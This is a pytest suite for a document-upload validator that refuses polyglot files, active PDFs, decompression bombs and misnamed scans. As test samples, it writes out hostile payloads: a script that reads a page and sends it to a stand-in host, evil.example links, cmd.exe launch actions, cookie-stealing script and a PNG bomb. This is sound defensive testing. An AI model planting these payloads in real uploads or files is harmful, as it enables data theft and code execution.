"""The one document check (workflow/documents.check): a scan is parsed, never sniffed by its first bytes; a file
that is also something else, a PDF that acts on its own, a decompression bomb and a misnamed file are refused
with a message naming the file and why (issue 9, finding 13). No database: the check reads only bytes."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from sirecords.demo.documents import image, pdf_document, scan, stream_object
from sirecords.workflow import documents
from sirecords.workflow.documents import DocumentRefused, check

PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + struct.pack("<I", 0x80)
      + b"\x00" * 0x40 + b"PE\x00\x00\x4c\x01\x03\x00")  # an MZ header whose e_lfanew points at "PE\0\0"
HTML = b"<html><body><script>fetch('/desk/mine/').then(r => r.text()).then(t => new Image().src = '//x/?' + t)</script></body></html>"


def refusal(data: bytes, name: str = "scan.pdf") -> str:
    with pytest.raises(DocumentRefused) as refused:
        check(data, name)
    return str(refused.value)


def rewritten(base: bytes, change) -> bytes:
    """`base` (a PDF) passed through pypdf's writer after `change(writer)`."""
    writer = PdfWriter(clone_from=BytesIO(base))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


PAGE_OBJECTS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    stream_object(b"BT ET"),
]


def pdf_with_catalog(catalog_entries: bytes, *more: bytes) -> bytes:
    """A one-page PDF whose catalog has `catalog_entries`; `more` objects are numbered from 5."""
    return pdf_document([b"<< /Type /Catalog /Pages 2 0 R " + catalog_entries + b" >>", *PAGE_OBJECTS, *more])


# --- what is accepted ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("data, name, found", [
    (scan("resident ID card"), "id-card.pdf", "application/pdf"),
    (scan("resident ID card"), "身份证 正反面.PDF", "application/pdf"),
    (scan("no name"), "", "application/pdf"),
    (scan("a name without a suffix"), "scan", "application/pdf"),
    (scan("trailing newlines") + b"\r\n\n  ", "a.pdf", "application/pdf"),
    (image("JPEG"), "photo.jpg", "image/jpeg"),
    (image("JPEG", progressive=True), "photo.jpeg", "image/jpeg"),
    (image("JPEG", mode="CMYK"), "cmyk.jpg", "image/jpeg"),
    (image("JPEG", mode="L", comment=b"scanned 2026-03-01"), "grey.jpg", "image/jpeg"),
    (image("PNG"), "page.png", "image/png"),
    (image("PNG", mode="1"), "bilevel.png", "image/png"),
    (image("PNG", mode="P"), "palette.png", "image/png"),
    (image("PNG", mode="I;16"), "sixteen-bit.png", "image/png"),
], ids=["pdf", "pdf-upper-case-name", "pdf-no-name", "pdf-no-suffix", "pdf-trailing-whitespace", "jpeg",
        "jpeg-progressive", "jpeg-cmyk", "jpeg-comment", "png", "png-bilevel", "png-palette", "png-16-bit"])
def test_real_scans_are_accepted_as_what_they_are(data, name, found):
    assert check(data, name) == found


def test_an_ordinary_pdf_from_a_writer_is_accepted():
    """Rewritten by pypdf's writer with more pages and an info dictionary: a PDF as tools make them."""
    def pages(writer):
        for _ in range(3):
            writer.add_blank_page(595, 842)
        writer.add_metadata({"/Producer": "scanner", "/Title": "劳动合同"})
        writer.compress_identical_objects()
    writer_made = rewritten(scan("labour contract"), pages)
    assert check(writer_made, "contract.pdf") == "application/pdf"


def test_every_demo_scan_is_a_valid_document():
    """The demo attaches scan(f"{document} for {kind} {uid}") (demo/load.py): whatever the title, it passes."""
    for title in ("id_card for register_person 0a1b2c3d", "(parentheses) and \\backslash", "中文标题", "x" * 300):
        assert check(scan(title), "scan.pdf") == "application/pdf"


# --- what the finding showed: sniffing the first bytes let polyglots through ----------------------------------


def test_the_pdf_html_exe_polyglot_of_the_finding_is_refused():
    polyglot = b"%PDF-1.4\n" + HTML + b"\n" + PE
    assert refusal(polyglot, "id-card.pdf") == (
        "file “id-card.pdf”: it is a PDF that also contains HTML or script (at byte 9); a file that is also something else "
        "is not accepted")


def test_a_valid_pdf_that_is_also_an_html_page_is_refused():
    """It parses as a PDF (the markup sits in a comment line), and a browser would render its script."""
    polyglot = pdf_document([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS], after_header=b"% " + HTML + b"\n")
    assert "also contains HTML or script (at byte 11)" in refusal(polyglot)


def test_a_valid_pdf_carrying_a_windows_program_is_refused():
    polyglot = pdf_document([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS, stream_object(PE)])
    assert "it is a PDF that also contains a program" in refusal(polyglot)


@pytest.mark.parametrize("tail, message", [
    (HTML, "also contains HTML or script"),
    (b"<svg onload=alert(1)>", "also contains HTML or script"),
    (b"\n" + PE, "also contains a program"),
    (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40, "also contains a ZIP archive"),
    (b"\x00\x01\x02 ordinary bytes, nothing recognisable", "bytes after the end of the PDF"),
], ids=["html", "svg", "exe", "zip", "junk"])
def test_bytes_after_the_last_eof_of_a_pdf_are_refused(tail, message):
    assert message in refusal(scan("id card") + tail)


@pytest.mark.parametrize("format, name", [("JPEG", "photo.jpg"), ("PNG", "page.png")])
@pytest.mark.parametrize("tail, message", [
    (HTML, "also contains HTML or script"),
    (PE, "also contains a program"),
    (scan("hidden"), "also contains a PDF"),
    (b"\x01\x02\x03 plain trailing bytes", "bytes after the end of the"),
], ids=["html", "exe", "pdf", "junk"])
def test_bytes_after_the_end_of_an_image_are_refused(format, name, tail, message):
    assert message in refusal(image(format) + tail, name)


def test_script_hidden_in_image_metadata_is_refused():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(document.cookie)</script>")
    assert "it is a PNG that also contains HTML or script" in refusal(image("PNG", pnginfo=info), "page.png")
    commented = image("JPEG", comment=b"<iframe src=//evil.example>")
    assert "it is a JPEG that also contains HTML or script" in refusal(commented, "photo.jpg")


# --- PDFs that act on their own -----------------------------------------------------------------------------


def _open_action(writer, action: dict):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(k): (NameObject(v) if v.startswith("/") else TextStringObject(v)) for k, v in action.items()})


@pytest.mark.parametrize("change, what", [
    (lambda w: _open_action(w, {"/S": "/JavaScript", "/JS": "app.alert(1)"}), "JavaScript"),
    (lambda w: _open_action(w, {"/S": "/Launch", "/F": "cmd.exe"}), "a launch action"),
    (lambda w: _open_action(w, {"/S": "/SubmitForm", "/F": "https://evil.example/"}), "a form action that sends or loads data"),
    (lambda w: _open_action(w, {"/S": "/GoToR", "/F": "other.pdf"}), "a link that opens another file"),
    (lambda w: w.add_attachment("payroll.exe", b"MZ just bytes"), "embedded files"),
], ids=["javascript-open-action", "launch", "submit-form", "remote-go-to", "embedded-file"])
def test_a_pdf_that_acts_on_its_own_is_refused(change, what):
    message = refusal(rewritten(scan("contract"), change), "contract.pdf")
    assert message.startswith("file “contract.pdf”: the PDF contains ") and what in message


@pytest.mark.parametrize("catalog, more", [
    (b"/Names << /JavaScript << /Names [(init) 5 0 R] >> >>", (b"<< /S /JavaScript /JS (app.alert[1]) >>",)),
    (b"/OpenAction << /S /L#61unch /F (cmd.exe) >>", ()),  # a name spelled with a #xx escape
    (b"/OpenAction 5 0 R", (b"<< /S 6 0 R /F (cmd.exe) >>", b"/Launch")),  # the action type by reference
    (b"/AA << /WC << /S /Launch /F (cmd.exe) >> >>", ()),  # an additional action, nested deep in a direct dictionary
    (b"/AcroForm << /Fields [] /XFA 5 0 R >>", (stream_object(b"<xdp:xdp></xdp:xdp>"),)),
], ids=["javascript-name-tree", "hex-escaped-name", "indirect-action-type", "additional-action", "xfa-form"])
def test_active_content_is_found_however_it_is_spelled(catalog, more):
    assert "the PDF contains" in refusal(pdf_with_catalog(catalog, *more))


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 whose catalog opens with object 6, `hidden` inside a compressed object stream (object 5) that only
    a cross-reference stream (object 7) points into: nothing of it shows in the file's raw bytes."""
    header = b"6 0 "
    packed = zlib.compress(header + hidden)
    bodies = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", *PAGE_OBJECTS,
              b"<< /Type /ObjStm /N 1 /First " + str(len(header)).encode() + b" /Filter /FlateDecode /Length "
              + str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream"]
    out, offsets = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref_at = len(out)
    rows = (struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 1, offset, 0) for offset in offsets)
            + struct.pack(">BIH", 2, 5, 0) + struct.pack(">BIH", 1, xref_at, 0))
    out += (b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length " + str(len(rows)).encode()
            + b" >>\nstream\n" + rows + b"\nendstream\nendobj\n" + f"startxref\n{xref_at}\n%%EOF\n".encode())
    return bytes(out)


def test_an_action_in_a_compressed_object_stream_is_found():
    """Objects packed in a compressed object stream are read too, not only what shows in the raw bytes."""
    assert check(pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>"), "a.pdf") == "application/pdf"
    launch = pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>")
    assert b"Launch" not in launch
    assert "the PDF contains a launch action" in refusal(launch)


def test_an_encrypted_pdf_is_refused():
    locked = rewritten(scan("secret"), lambda w: w.encrypt("user-password", algorithm="AES-128"))
    assert refusal(locked) == "file “scan.pdf”: the PDF is encrypted; attach an unencrypted scan"


# --- broken files, bombs and limits -------------------------------------------------------------------------


@pytest.mark.parametrize("data, name, message", [
    (b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n", "a.pdf", "it begins like a PDF but is not a valid PDF"),
    (scan("cut")[:-80], "a.pdf", "it begins like a PDF but is not a valid PDF"),
    (image("JPEG")[:-200], "a.jpg", "it begins like a JPEG image but is not a valid one (it ends too early)"),
    (image("PNG")[:-20], "a.png", "it begins like a PNG image but is not a valid one (it ends too early)"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x00IEND\xaeB`\x82", "a.png", "it does not begin with an image header"),
    (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "a.pdf", "only PDF, JPEG or PNG scans are accepted; its content is a GIF image"),
    (b"II*\x00" + b"\x00" * 40, "a.pdf", "its content is a TIFF image"),
    (PE, "a.pdf", "its content is a Windows program"),
    (b"\x7fELF\x02\x01\x01" + b"\x00" * 40, "a.pdf", "its content is a Linux program"),
    (b"PK\x03\x04\x14\x00" + b"\x00" * 40, "a.pdf", "its content is a ZIP archive or Office document"),
    (b"  \n" + HTML, "a.pdf", "its content is HTML or XML"),
    ("身份证号 440305198506151233".encode(), "a.pdf", "its content is not a recognised document format"),
    (b"", "a.pdf", "file “a.pdf”: the file is empty"),
], ids=["pdf-without-xref", "pdf-cut-short", "jpeg-cut-short", "png-cut-short", "png-without-header", "gif", "tiff",
        "exe", "elf", "zip", "html", "text", "empty"])
def test_what_does_not_parse_is_refused_with_the_reason(data, name, message):
    assert message in refusal(data, name)


def test_a_png_with_a_broken_checksum_is_refused():
    good = bytearray(image("PNG"))
    good[33 + 8 + 4] ^= 0xFF  # a byte of the first chunk after IHDR
    assert "it begins like a PNG image but is not a valid one" in refusal(bytes(good), "a.png")


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    """A 100,000 × 100,000 PNG (ten billion pixels, tens of gigabytes decoded) in a few hundred bytes."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    bomb = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 12_501 * 4)) + chunk(b"IEND", b""))
    assert len(bomb) < 200
    assert refusal(bomb, "bomb.png") == ("file “bomb.png”: the image is 100000×100000 pixels; at most 50,000,000 pixels are "
                                          "accepted")


def test_the_pixel_and_page_limits_are_settings(settings):
    settings.SIRECORDS_MAX_IMAGE_PIXELS = 120 * 80 - 1
    assert "the image is 120×80 pixels; at most 9,599 pixels are accepted" in refusal(image("PNG"), "a.png")
    settings.SIRECORDS_MAX_DOCUMENT_PAGES = 3
    four = rewritten(scan("one"), lambda w: [w.add_blank_page(612, 792) for _ in range(3)])
    assert "the PDF has 4 pages; at most 3 are accepted" in refusal(four)
    assert check(rewritten(scan("one"), lambda w: [w.add_blank_page(612, 792) for _ in range(2)]), "a.pdf")


def test_pillow_s_own_bomb_guard_is_a_refusal_too(settings, monkeypatch):
    """Were the pixel limit set above Pillow's MAX_IMAGE_PIXELS, Pillow's guard still ends in a refusal, not a 500."""
    settings.SIRECORDS_MAX_IMAGE_PIXELS = 10**9
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    assert "the image is 120×80 pixels" in refusal(image("PNG"), "a.png")


def test_an_oversize_file_is_refused_by_its_size(settings):
    settings.SIRECORDS_MAX_ATTACHMENT_BYTES = 1000
    big = scan("x") + b" " * 1000
    assert refusal(big, "big.pdf") == f"file “big.pdf”: the file is {len(big):,} bytes; at most 1,000 are accepted"


# --- the name -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("data, name, message", [
    (image("PNG"), "id-card.pdf", "file “id-card.pdf”: its content is PNG, not PDF. A renamed file is not accepted"),
    (scan("x"), "id-card.jpg", "its content is PDF, not JPEG"),
    (image("JPEG"), "photo.png", "its content is JPEG, not PNG"),
    (scan("x"), "invoice.html", "file “invoice.html”: its name ends in .html; a scan is named .pdf, .jpg, .jpeg or .png"),
    (scan("x"), "scan.pdf.exe", "its name ends in .exe"),
], ids=["png-named-pdf", "pdf-named-jpg", "jpeg-named-png", "html-name", "double-suffix"])
def test_a_name_that_says_another_format_is_refused(data, name, message):
    assert message in refusal(data, name)


def test_received_refuses_an_oversize_upload_without_reading_it(settings):
    settings.SIRECORDS_MAX_ATTACHMENT_BYTES = 100

    class Upload:
        name, size = "big.pdf", 101

        def read(self):
            raise AssertionError("an oversize upload must not be read")

    with pytest.raises(DocumentRefused, match="file “big.pdf”: the file is 101 bytes; at most 100 are accepted"):
        documents.received(Upload())


def test_a_pdf_of_too_many_objects_is_refused_before_they_are_read(monkeypatch):
    """Reading objects costs time (pypdf reads a few thousand a second): their number is bounded first."""
    from sirecords.workflow import scans

    monkeypatch.setattr(scans, "MAX_PDF_OBJECTS", 5)
    padded = pdf_document([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS, b"<< >>", b"<< >>"])
    assert refusal(padded) == "file “scan.pdf”: the PDF has 6 objects; at most 5 are accepted"
